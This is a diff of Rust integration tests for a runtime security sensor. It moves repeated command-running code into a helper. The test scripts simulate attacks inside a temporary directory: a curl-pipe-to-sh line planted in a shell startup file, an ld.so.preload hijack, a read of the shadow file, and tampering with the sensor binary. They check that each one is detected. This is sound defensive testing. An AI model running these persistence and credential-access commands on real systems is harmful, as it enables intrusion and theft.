@@ -38,6 +38,13 @@ fn rw_watching(dir: &Path, root: &Path) -> (std::process::Command, PathBuf, Path
     (cmd, sink, policies)
 }
 
+/// Runs `script` under `cmd` (which must exit 0) and returns the findings in `sink`.
+fn findings_of(mut cmd: std::process::Command, script: &str, sink: &Path) -> Vec<Value> {
+    cmd.args(["--", "sh", "-c", script]);
+    run(&mut cmd, TIMEOUT).assert_code(0);
+    read_findings(sink)
+}
+
 fn only<'a>(findings: &'a [Value], category: &str) -> &'a Value {
     let hits: Vec<&Value> = findings.iter().filter(|f| f["category"] == category).collect();
     assert_eq!(hits.len(), 1, "one {category:?} finding: {findings:#?}");
@@ -167,7 +174,7 @@ fn shell_start_up_files_and_authorized_keys_written() {
         std::fs::create_dir_all(root.join(d)).unwrap();
     }
     std::fs::write(root.join("root/.bashrc"), "alias ll='ls -l'\n").unwrap();
-    let (mut cmd, sink, _) = rw_watching(dir.path(), &root);
+    let (cmd, sink, _) = rw_watching(dir.path(), &root);
     let script = format!(
         "R={r}; \
          echo 'curl -s http://203.0.113.9/x | sh' > $R/etc/profile.d/zz-update.sh; \
@@ -178,10 +185,7 @@ fn shell_start_up_files_and_authorized_keys_written() {
          sleep 0.3",
         r = root.display()
     );
-    cmd.args(["--", "sh", "-c", &script]);
-    let out = run(&mut cmd, TIMEOUT);
-    out.assert_code(0);
-    let findings = read_findings(&sink);
+    let findings = findings_of(cmd, &script, &sink);
     let profile: Vec<&Value> =
         findings.iter().filter(|f| f["category"] == "Persistence: Modify Shell Configuration").collect();
     let paths: std::collections::BTreeSet<&str> =
@@ -214,7 +218,7 @@ fn directories_created_later_and_renames_over_watched_files() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("root");
     std::fs::create_dir_all(root.join("etc")).unwrap();
-    let (mut cmd, sink, _) = rw_watching(dir.path(), &root);
+    let (cmd, sink, _) = rw_watching(dir.path(), &root);
     // /var/spool/cron/crontabs and /etc/pam.d do not exist at start.
     let script = format!(
         "R={r}; \
@@ -225,10 +229,7 @@ fn directories_created_later_and_renames_over_watched_files() {
          sleep 0.3",
         r = root.display()
     );
-    cmd.args(["--", "sh", "-c", &script]);
-    let out = run(&mut cmd, TIMEOUT);
-    out.assert_code(0);
-    let findings = read_findings(&sink);
+    let findings = findings_of(cmd, &script, &sink);
     let cron: Vec<&Value> =
         findings.iter().filter(|f| f["category"] == "Execution: Suspicious Cron Modification").collect();
     assert!(
@@ -261,10 +262,7 @@ fn renaming_runwarden_s_own_binary_is_sensor_tampering() {
     strip_config(&mut cmd);
     cmd.env("RUNWARDEN_WATCH_ROOT", &root).env("RUNWARDEN_SINKS", format!("file:{}", sink.display()));
     let script = format!("mv {e} {e}.old; sleep 0.3", e = exe.display());
-    cmd.args(["--", "sh", "-c", &script]);
-    let out = run(&mut cmd, TIMEOUT);
-    out.assert_code(0);
-    let findings = read_findings(&sink);
+    let findings = findings_of(cmd, &script, &sink);
     let f = only(&findings, "Defense Evasion: Sensor Tampering");
     let path = exe.display().to_string();
     check(f, "HIGH", "file_sensor_tampering", "T1562.001", &path, "RENAME", false);
@@ -285,10 +283,7 @@ fn a_workload_writing_its_own_logs_and_temp_files_is_quiet() {
          sleep 0.3",
         r = root.display()
     );
-    cmd.args(["--", "sh", "-c", &script]);
-    let out = run(&mut cmd, TIMEOUT);
-    out.assert_code(0);
-    let findings = read_findings(&sink);
+    let findings = findings_of(cmd, &script, &sink);
     let loud: Vec<&Value> = findings
         .iter()
         .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
@@ -322,10 +317,7 @@ fn as_pid1_in_a_fresh_pid_namespace() {
         "echo /tmp/evil.so > {r}/etc/ld.so.preload; exec 3< {r}/etc/shadow; sleep 1",
         r = root.display()
     );
-    cmd.args(["--", "sh", "-c", &script]);
-    let out = run(&mut cmd, TIMEOUT);
-    out.assert_code(0);
-    let findings = read_findings(&sink);
+    let findings = findings_of(cmd, &script, &sink);
     let f = only(&findings, "Persistence: Modify ld.so.preload");
     check(f, "HIGH", "file_ld_preload_modified", "T1574.006", "/etc/ld.so.preload", "CREATE", true);
     let f = only(&findings, "Credential Access: Access Sensitive Files On Nodes");
